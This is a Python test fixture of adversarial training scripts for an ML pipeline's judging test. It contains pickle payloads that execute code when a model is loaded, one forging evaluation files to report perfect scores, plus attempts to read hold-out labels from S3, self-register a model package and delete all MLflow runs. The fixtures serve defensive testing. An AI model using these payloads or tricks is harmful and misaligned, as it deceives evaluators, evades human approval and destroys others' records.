"""Training code that would rather be registered than be good: what `test_judging` runs in the train step.

An estimator runs inside the training job, with the rights of its role and what lies in its folders; so these scripts
stand in for the whole of it. Each ends by leaving a model, if it gets so far.
"""

from __future__ import annotations

RUN = (
    "import runpy, sys; from training import job; file = str(job.base() / 'input/data/attack/attack.py'); "
    "sys.exit(job.run(lambda: runpy.run_path(file, run_name='__main__'), 'output/failure'))"
)
"""What the job starts; AWS allows a word of it 256 characters."""

_SAVE = """
from inference import plan
from training import dataset, job

workload = job.workload()
folder = job.base() / "input" / "data" / "training"

def save(estimator):
    print("model", plan.save(job.base() / "model", workload, plan.Plan.of(workload), estimator))
"""

REWRITES = (
    _SAVE
    + """
SOURCE = '''
import json, os, pathlib
base = pathlib.Path(os.environ["SAGEMAKER_BASE_DIR"])
for name in ("evaluation", "scores", "package"):
    file = base / "processing" / "output" / name / "evaluation.json"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(json.dumps({"gates": {"passed": 1}, "failure_message": "", "metrics": {"roc_auc": 1.0}}))
print("rewrote the evaluation")
'''

class Rewrites:
    def __reduce__(self):
        return eval, (f"(exec({SOURCE!r}), __import__('inference.estimators', fromlist=['x']).Prior((0.5, 0.5)))[1]",)

save(Rewrites())
"""
)
"""A model that rewrites its evaluation wherever it is loaded, and answers 0.5 to everything."""

MEMORISES = (
    _SAVE
    + """
import boto3

def under(prefix):
    # every answer that this job can lay its hands on
    bucket, found = "BUCKET", {}
    s3 = boto3.client("s3")
    try:
        for page in s3.get_paginator("list_objects_v2").paginate(Bucket=bucket, Prefix=prefix):
            for item in page.get("Contents", []):
                found[item["Key"]] = s3.get_object(Bucket=bucket, Key=item["Key"])["Body"].read()
    except s3.exceptions.ClientError as error:
        print(f"{prefix}: {error}")
    return found

print("seen", sorted(path.name for path in folder.rglob("*")))
assert not under("flights/prepare/holdout/"), "the hold-out could be read"
assert not under("flights/prepare/labels/"), "the labels could be read"
rows = dataset.read(folder, "training").to_pandas()
matrix = plan.Plan.of(workload).matrix(dataset.columns(workload, rows))
known = {row.tobytes(): float(label) for row, label in zip(matrix, rows[workload.label.name])}
SOURCE = '''
import numpy as np
class Memory:
    def predict_proba(self, rows):
        answers = np.array([KNOWN.get(row.tobytes(), 0.5) for row in rows])
        return np.column_stack([1 - answers, answers])
'''

class Memorises:
    def __reduce__(self):
        # the code that answers comes along in the pickle
        return eval, ("(exec(source, space), space['Memory']())[1]", {"source": SOURCE, "space": {"KNOWN": known}})

save(Memorises())
"""
)
"""A model that knows by heart every answer that its training job could find, and says 0.5 to the rest."""

MEDDLES = (
    _SAVE
    + """
import boto3
from mlflow import MlflowClient

client = MlflowClient(job.setting("MLFLOW_TRACKING_URI"))
runs = client.search_runs([client.get_experiment_by_name(workload.name).experiment_id])
group = job.setting("MODEL_PACKAGE_GROUP_NAME")
package = {"ModelPackageGroupName": group, "ModelApprovalStatus": "PendingManualApproval"}
refused = []
for meddle in (
    lambda: boto3.client("sagemaker").create_model_package(**package),
    lambda: [client.delete_run(run.info.run_id) for run in runs],
):
    try:
        meddle()
    except Exception as error:
        refused.append(str(error))
assert not refused, refused
"""
)
"""Training code that, instead of leaving a model, registers by itself and deletes everybody's runs."""
